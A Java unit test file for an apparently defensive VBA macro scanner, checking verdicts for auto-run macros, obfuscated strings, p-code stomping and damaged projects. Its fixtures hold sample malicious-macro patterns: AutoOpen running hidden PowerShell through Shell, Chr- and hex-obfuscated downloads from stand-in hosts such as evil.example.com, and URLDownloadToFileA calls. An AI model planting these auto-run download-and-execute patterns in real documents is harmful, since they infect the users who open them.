package dev.prefilter.engine.office.vba;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.prefilter.engine.fixtures.Archives;
import dev.prefilter.engine.model.Finding;
import dev.prefilter.engine.model.Severity;
import dev.prefilter.engine.model.Verdict;
import dev.prefilter.engine.office.Golden;
import dev.prefilter.engine.office.MacroFixtures;
import dev.prefilter.engine.office.MacroFixtures.Module;
import dev.prefilter.engine.office.PcodeFixtures;
import dev.prefilter.engine.report.Report;
import dev.prefilter.engine.report.ReportNode;
import dev.prefilter.engine.testing.TestEngines;
import java.util.List;
import java.util.Map;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;

class VbaAnalyzerTest {

    private static final String SHELL_ON_OPEN = """
            Sub AutoOpen()
                Dim cmd As String
                cmd = "powershell -nop -w hidden -c calc"
                Shell cmd, vbHide
            End Sub
            """.replace("\n", "\r\n");

    private static List<Finding> findings(Report report, String code) {
        return report.findings().stream().filter(f -> f.code().equals(code)).toList();
    }

    @Test
    void autoOpenThatShellsIsMaliciousWithKeywordModuleAndLine() throws Exception {
        Report report = TestEngines.scanFile(
                "invoice.doc", MacroFixtures.doc(List.of(Module.standard("NewMacros", SHELL_ON_OPEN))));
        assertEquals(Verdict.MALICIOUS, report.verdict());
        Finding rule = findings(report, "vba.autoexec-write-execute").get(0);
        assertEquals(Severity.CRITICAL, rule.severity());
        assertEquals("AutoOpen", rule.evidence().get("trigger"));
        assertEquals("NewMacros", rule.evidence().get("triggerModule"));
        assertEquals(1, rule.evidence().get("triggerLine"));
        assertEquals("Shell", rule.evidence().get("action"));
        assertEquals(4, rule.evidence().get("actionLine"));
        Golden.assertMatches("vba_autoopen_shell_doc", TestEngines.node(report, "invoice.doc"));
    }

    @Test
    void aDocmWhoseProjectPartFailsItsChecksumIsSuspiciousNotClean() {
        byte[] docm = MacroFixtures.docm(
                MacroFixtures.vbaProjectBin(List.of(Module.standard("Module1", SHELL_ON_OPEN)), new byte[] {1, 2}));
        Report report = TestEngines.scanFile("invoice.docm", Archives.withWrongCrc(docm, "word/vbaProject.bin"));
        Finding parse = findings(report, "parse.vba").get(0);
        assertTrue(parse.evidence().get("problems").toString().contains("word/vbaProject.bin is damaged"));
        assertEquals(
                Verdict.SUSPICIOUS, report.verdict(), TestEngines.codes(report).toString());
    }

    @Test
    void aProjectStreamWithoutItsVbaStorageIsAParseFinding() throws Exception {
        try (POIFSFileSystem fs = new POIFSFileSystem(new java.io.ByteArrayInputStream(
                MacroFixtures.doc(List.of(Module.standard("NewMacros", SHELL_ON_OPEN)))))) {
            // a damaged directory entry: the code storage no longer answers to its name
            ((DirectoryEntry) fs.getRoot().getEntry("Macros")).getEntry("VBA").renameTo("VB\u00ad");
            Report report = TestEngines.scanFile("invoice.doc", MacroFixtures.bytes(fs));
            Finding parse = findings(report, "parse.vba").get(0);
            assertEquals("Macros", parse.evidence().get("storage"));
            assertTrue(parse.evidence().get("problems").toString().contains("no VBA storage with a dir stream"));
            assertEquals(
                    Verdict.SUSPICIOUS,
                    report.verdict(),
                    TestEngines.codes(report).toString());
        }
    }

    @Test
    void aCompoundFileWhoseDirectoryListsNothingIsAParseFinding() throws Exception {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            Report report = TestEngines.scanFile("invoice.doc", MacroFixtures.bytes(fs));
            Finding parse = findings(report, "parse.vba").get(0);
            assertTrue(parse.evidence().get("problems").toString().contains("lists no stream at all"));
            assertEquals(
                    Verdict.SUSPICIOUS,
                    report.verdict(),
                    TestEngines.codes(report).toString());
        }
    }

    @Test
    void moduleFactsListNameStreamSizeHashAndFirstLines() {
        Report report = TestEngines.scanFile(
                "invoice.doc", MacroFixtures.doc(List.of(Module.standard("NewMacros", SHELL_ON_OPEN))));
        ReportNode node = TestEngines.node(report, "invoice.doc");
        @SuppressWarnings("unchecked")
        Map<String, Object> vba = (Map<String, Object>) node.facts().get("vba");
        @SuppressWarnings("unchecked")
        List<VbaFindings.ProjectFact> projects = (List<VbaFindings.ProjectFact>) vba.get("projects");
        assertEquals("Macros", projects.get(0).storage());
        VbaFindings.ModuleFact module = projects.get(0).modules().get(0);
        assertEquals("NewMacros", module.name());
        assertEquals("NewMacros", module.stream());
        assertEquals("standard", module.kind());
        assertEquals(64, module.sha256().length());
        assertEquals("Sub AutoOpen()", module.firstLines().get(0));
    }

    @Test
    void macroWithoutAutoRunIsSuspiciousNotMalicious() {
        String source = "Sub Report()\r\n    Shell \"notepad.exe\"\r\nEnd Sub\r\n";
        Report report =
                TestEngines.scanFile("report.doc", MacroFixtures.doc(List.of(Module.standard("Module1", source))));
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
        assertTrue(TestEngines.codes(report).contains("vba.macros"));
        assertTrue(TestEngines.codes(report).contains("vba.execute"));
        assertFalse(TestEngines.codes(report).contains("vba.autoexec-write-execute"));
        Finding exe = findings(report, "vba.ioc").get(0);
        assertEquals("executable", exe.evidence().get("type"));
        assertEquals("notepad.exe", exe.evidence().get("value"));
    }

    @Test
    void genericWordsAloneDoNotCountAsWriteOrExecute() {
        String source = String.join(
                "\r\n",
                "Private Sub Workbook_Open()",
                "    Open \"C:\\data\\in.txt\" For Input As #1",
                "    Application.Run \"Refresh\"",
                "    Write_Log \"opened\"",
                "    Close #1",
                "End Sub",
                "");
        Report report =
                TestEngines.scanFile("book.doc", MacroFixtures.doc(List.of(Module.document("ThisDocument", source))));
        assertEquals(Verdict.SUSPICIOUS, report.verdict(), "any macro is suspicious");
        List<String> codes = TestEngines.codes(report);
        assertTrue(codes.contains("vba.autoexec"));
        assertFalse(codes.contains("vba.write"), codes.toString());
        assertFalse(codes.contains("vba.execute"), codes.toString());
        assertFalse(codes.contains("vba.autoexec-write-execute"));
    }

    @Test
    void openForOutputIsAWriteAndWithAutoRunMalicious() {
        String source = String.join(
                "\r\n",
                "Sub Document_Open()",
                "    Open Environ(\"TEMP\") & \"\\a.vbs\" For Output As #1",
                "    Print #1, \"x\"",
                "End Sub",
                "");
        Report report =
                TestEngines.scanFile("w.doc", MacroFixtures.doc(List.of(Module.document("ThisDocument", source))));
        assertEquals(Verdict.MALICIOUS, report.verdict());
        List<Finding> writes = findings(report, "vba.write");
        assertTrue(writes.stream()
                .anyMatch(f -> "Open For Output".equals(f.evidence().get("keyword"))
                        && Integer.valueOf(2).equals(f.evidence().get("line"))));
        assertTrue(writes.stream().anyMatch(f -> "Put #".equals(f.evidence().get("keyword"))));
    }

    @Test
    void obfuscatedStringsAreDecodedAndScannedAgain() {
        String source = String.join(
                "\r\n",
                "Sub AutoOpen()",
                "    Set o = CreateObject(StrReverse(\"llehS.tpircSW\"))",
                "    u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & \"://evil.example.com/a.exe\"",
                "    p = \"cG93ZXJzaGVsbCAtZW5jIGFiYw==\"",
                "    h = \"55524C446F776E6C6F6164546F46696C6541\"",
                "    s = \"WScr\" & \"ipt.Sh\" & \"ell\"",
                "End Sub",
                "");
        Report report = TestEngines.scanFile("o.doc", MacroFixtures.doc(List.of(Module.standard("M", source))));
        List<Finding> obf = findings(report, "vba.obfuscation");
        List<Object> kinds = obf.stream().map(f -> f.evidence().get("kind")).toList();
        assertTrue(
                kinds.containsAll(List.of("strreverse", "chr-concat", "base64", "hex", "string-split")),
                kinds.toString());
        assertTrue(findings(report, "vba.execute").stream()
                .anyMatch(f -> "WScript.Shell".equals(f.evidence().get("keyword"))
                        && "strreverse".equals(f.evidence().get("decodedFrom"))));
        assertTrue(findings(report, "vba.powershell").stream()
                .anyMatch(f -> "base64".equals(f.evidence().get("decodedFrom"))));
        assertTrue(findings(report, "vba.download-to-file").stream()
                .anyMatch(f -> "hex".equals(f.evidence().get("decodedFrom"))));
        assertTrue(findings(report, "vba.ioc").stream()
                .anyMatch(
                        f -> "http://evil.example.com/a.exe".equals(f.evidence().get("value"))
                                && "chr-concat".equals(f.evidence().get("decodedFrom"))));
    }

    @Test
    void officeSchemaUrlsAreNotIndicators() {
        String source =
                "Sub X()\r\n    ns = \"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"\r\nEnd Sub\r\n";
        Report report = TestEngines.scanFile("x.doc", MacroFixtures.doc(List.of(Module.standard("M", source))));
        assertTrue(
                findings(report, "vba.ioc").isEmpty(),
                findings(report, "vba.ioc").toString());
    }

    @Test
    void docmWithProjectIsReadFromItsVbaProjectBin() {
        byte[] bin = MacroFixtures.vbaProjectBin(
                List.of(Module.document("ThisDocument", SHELL_ON_OPEN)), new byte[] {(byte) 0xCC, 0x61});
        Report report = TestEngines.scanFile("form.docm", MacroFixtures.docm(bin));
        assertEquals(Verdict.MALICIOUS, report.verdict());
        assertTrue(TestEngines.codes(report).contains("vba.macros"));
    }

    @Test
    void docmWithoutProjectAndDocWithoutMacrosStayClean() {
        Report docm = TestEngines.scanFile("clean.docm", MacroFixtures.docm(null));
        assertEquals(Verdict.CLEAN, docm.verdict(), docm.findings().toString());
        assertTrue(
                docm.findings().stream().noneMatch(f -> f.severity().compareTo(Severity.INFO) > 0),
                docm.findings().toString());
        Report doc = TestEngines.scanFile("clean.doc", MacroFixtures.doc(null));
        assertEquals(Verdict.CLEAN, doc.verdict(), doc.findings().toString());
        assertTrue(doc.findings().isEmpty(), doc.findings().toString());
    }

    @Test
    void projectWithEmptyModulesIsInfoNotAMacro() {
        byte[] bin = MacroFixtures.vbaProjectBin(
                List.of(Module.document("ThisDocument", "Option Explicit\r\n' nothing here\r\n\r\n")),
                new byte[] {(byte) 0xCC, 0x61});
        Report report = TestEngines.scanFile("letter.docm", MacroFixtures.docm(bin));
        assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
        assertEquals(List.of("vba.empty-project"), TestEngines.codes(report));
        assertEquals(Severity.INFO, report.findings().get(0).severity());
    }

    /** Empty procedure stubs, auto-run names included, beside declarations: nothing can run. */
    private static final String EMPTY_STUBS = """
            Option Explicit
            Private Type Pair
                a As Long
                b As Long
            End Type
            Dim counter As Long ' not used yet
            Public Const NAME_ As String = "x: y"
            Private Declare PtrSafe Function GetTickCount Lib "kernel32" () As Long

            Sub Auto_Open()
            End Sub

            Private Function Helper(ByVal text As String, Optional ByVal sep As String = ":") As String()
                ' to do
                Rem later
            End Function
            """.replace("\n", "\r\n");

    @Test
    void projectWhoseProceduresAreAllEmptyIsInfoNotAMacro() {
        byte[] bin = MacroFixtures.vbaProjectBin(
                List.of(
                        Module.standard("Module1", EMPTY_STUBS),
                        Module.document("ThisWorkbook", "Private Sub Workbook_Open()\r\n\r\nEnd Sub\r\n")),
                new byte[] {(byte) 0xCC, 0x61});
        Report report = TestEngines.scanFile("budget.docm", MacroFixtures.docm(bin));
        assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
        assertEquals(List.of("vba.empty-project"), TestEngines.codes(report));
    }

    @Test
    void oneStatementInAStubMakesItAMacroAgain() {
        for (String statement : List.of("    counter = 1", "    Helper \"a\"", "    GetTickCount")) {
            String source = EMPTY_STUBS.replace("Sub Auto_Open()\r\n", "Sub Auto_Open()\r\n" + statement + "\r\n");
            Report report =
                    TestEngines.scanFile("budget.doc", MacroFixtures.doc(List.of(Module.standard("Module1", source))));
            assertTrue(TestEngines.codes(report).contains("vba.macros"), statement + ": " + report.findings());
            assertTrue(TestEngines.codes(report).contains("vba.autoexec"), statement + ": " + report.findings());
        }
        Report oneLine = TestEngines.scanFile(
                "one.doc",
                MacroFixtures.doc(List.of(Module.standard("Module1", "Sub AutoOpen(): Shell \"calc\": End Sub\r\n"))));
        assertEquals(Verdict.MALICIOUS, oneLine.verdict(), "a statement after the header's colon runs");
    }

    @Test
    void evidenceCitesTheLiveCallNotACommentedOutOne() {
        String source = """
                Sub AutoOpen()
                    ' Shell "cmd /c old.bat"   (kept for reference)
                    x = 1 ' was: Shell "cmd /c older.bat"
                    Shell "cmd /c calc", vbHide
                End Sub
                """.replace("\n", "\r\n");
        Report report = TestEngines.scanFile("c.doc", MacroFixtures.doc(List.of(Module.standard("M", source))));
        Finding shell = findings(report, "vba.execute").stream()
                .filter(f -> "Shell".equals(f.evidence().get("keyword")))
                .findFirst()
                .orElseThrow();
        assertEquals(4, shell.evidence().get("line"), shell.evidence().toString());
        assertEquals("Shell \"cmd /c calc\", vbHide", shell.evidence().get("code"));
        assertEquals(3, shell.evidence().get("occurrences"), "the commented lines still count as occurrences");
        Finding rule = findings(report, "vba.autoexec-write-execute").get(0);
        assertEquals(4, rule.evidence().get("actionLine"));
    }

    @Test
    void emptySourceOverRealPcodeIsStomping() {
        PcodeFixtures compiled = new PcodeFixtures();
        PcodeFixtures.Module pcode = compiled.module();
        pcode.line(pcode.sub("Document_Open"))
                .line(pcode.literal("powershell -enc AAA"), pcode.call("Shell", 1))
                .line(pcode.endSub());
        Module stomped = Module.document("ThisDocument", "").withPcode(pcode.build());
        Report report = TestEngines.scanFile("e.doc", MacroFixtures.doc(List.of(stomped), compiled.vbaProject()));
        Finding f = findings(report, "vba.stomping").get(0);
        assertEquals(List.of("ThisDocument"), f.evidence().get("modules"));
        assertTrue(
                f.evidence().get("onlyInPcode").toString().contains("Document_Open (autoexec)"),
                f.evidence().toString());
        assertEquals(Verdict.MALICIOUS, report.verdict(), "auto-run and Shell only in the p-code");
    }

    @Test
    void stompedSourceIsReportedFromThePcode() {
        PcodeFixtures compiled = new PcodeFixtures();
        PcodeFixtures.Module pcode = compiled.module();
        pcode.line(pcode.sub("AutoOpen"))
                .line(
                        pcode.literal("http://x.example/p.exe"),
                        pcode.literal("C:\\Users\\Public\\p.exe"),
                        pcode.call("URLDownloadToFileA", 2))
                .line(pcode.endSub());
        Module stomped = Module.standard("Module1", "Sub Hello()\r\n    MsgBox \"hello\"\r\nEnd Sub\r\n")
                .withPcode(pcode.build());
        Report report = TestEngines.scanFile("s.doc", MacroFixtures.doc(List.of(stomped), compiled.vbaProject()));
        Finding f = findings(report, "vba.stomping").get(0);
        assertEquals(Severity.CRITICAL, f.severity(), "auto-run and download only in the p-code");
        assertTrue(
                f.evidence().get("onlyInPcode").toString().contains("URLDownloadToFileA"),
                f.evidence().toString());
        assertEquals(Verdict.MALICIOUS, report.verdict());
    }

    @Test
    void matchingSourceAndPcodeIsNotStomping() {
        PcodeFixtures compiled = new PcodeFixtures();
        PcodeFixtures.Module pcode = compiled.module();
        pcode.line(pcode.sub("AutoOpen"))
                .line()
                .line(pcode.literal("powershell -nop -w hidden -c calc"))
                .line(pcode.load("cmd"), pcode.load("vbHide"), pcode.call("Shell", 2))
                .line(pcode.endSub());
        Module honest = Module.standard("Module1", SHELL_ON_OPEN).withPcode(pcode.build());
        Report report = TestEngines.scanFile("h.doc", MacroFixtures.doc(List.of(honest), compiled.vbaProject()));
        assertTrue(findings(report, "vba.stomping").isEmpty(), report.findings().toString());
        assertEquals(Verdict.MALICIOUS, report.verdict(), "the source itself says AutoOpen and Shell");
    }

    /**
     * A document cleaned of a macro virus long ago: the project's identifier table still lists the
     * old names (AutoOpen, Shell, URLDownloadToFileA), but its module has no source and its compiled
     * part is zeros after the header. Nothing can run, so nothing was stomped.
     */
    @Test
    void leftoverNamesInTheProjectTableWithoutCompiledCodeAreNotStomping() {
        PcodeFixtures compiled = new PcodeFixtures();
        compiled.id("AutoOpen");
        compiled.id("Shell");
        compiled.id("URLDownloadToFileA");
        byte[] zeroedCache = new byte[0x400];
        zeroedCache[0] = 0x01;
        zeroedCache[1] = 0x16;
        Module emptied = Module.document("ThisDocument", "").withPcode(zeroedCache);
        Module neverCompiled = Module.standard("Module1", "");
        Report report = TestEngines.scanFile(
                "cleaned.doc", MacroFixtures.doc(List.of(emptied, neverCompiled), compiled.vbaProject()));
        assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
        assertEquals(List.of("vba.empty-project"), TestEngines.codes(report));
    }

    /**
     * The same leftover names beside a module with real compiled code that does not use them: only
     * what some module's p-code refers to counts.
     */
    @Test
    void leftoverNamesBesideRealCodeAreNotStomping() {
        PcodeFixtures compiled = new PcodeFixtures();
        compiled.id("AutoOpen");
        compiled.id("URLDownloadToFileA");
        PcodeFixtures.Module pcode = compiled.module();
        pcode.line(pcode.sub("Greet"))
                .line(pcode.literal("hello"), pcode.call("MsgBox", 1))
                .line(pcode.endSub());
        Module greet = Module.standard("Module1", "Sub Greet()\r\n    MsgBox \"hello\"\r\nEnd Sub\r\n")
                .withPcode(pcode.build());
        Report report = TestEngines.scanFile("greet.doc", MacroFixtures.doc(List.of(greet), compiled.vbaProject()));
        assertTrue(findings(report, "vba.stomping").isEmpty(), report.findings().toString());
        assertEquals(List.of("vba.macros"), TestEngines.codes(report));
    }

    @Test
    void damagedProjectIsAParseFindingNotACrash() throws Exception {
        try (var fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem()) {
            fs.createDocument(new java.io.ByteArrayInputStream(new byte[1024]), "WordDocument");
            var macros = fs.getRoot().createDirectory("Macros");
            var vba = macros.createDirectory("VBA");
            vba.createDocument("dir", new java.io.ByteArrayInputStream(new byte[] {
                0x01, (byte) 0xff, (byte) 0xbf, 0x00, 0x19, 0x00, (byte) 0xff, (byte) 0xff, 0x7f
            }));
            Report report = TestEngines.scanFile("broken.doc", MacroFixtures.bytes(fs));
            assertTrue(
                    TestEngines.codes(report).contains("parse.vba"),
                    report.findings().toString());
            assertFalse(
                    TestEngines.codes(report).contains("analyzer.failed"),
                    report.findings().toString());
            assertEquals(Verdict.SUSPICIOUS, report.verdict());
        }
    }
}
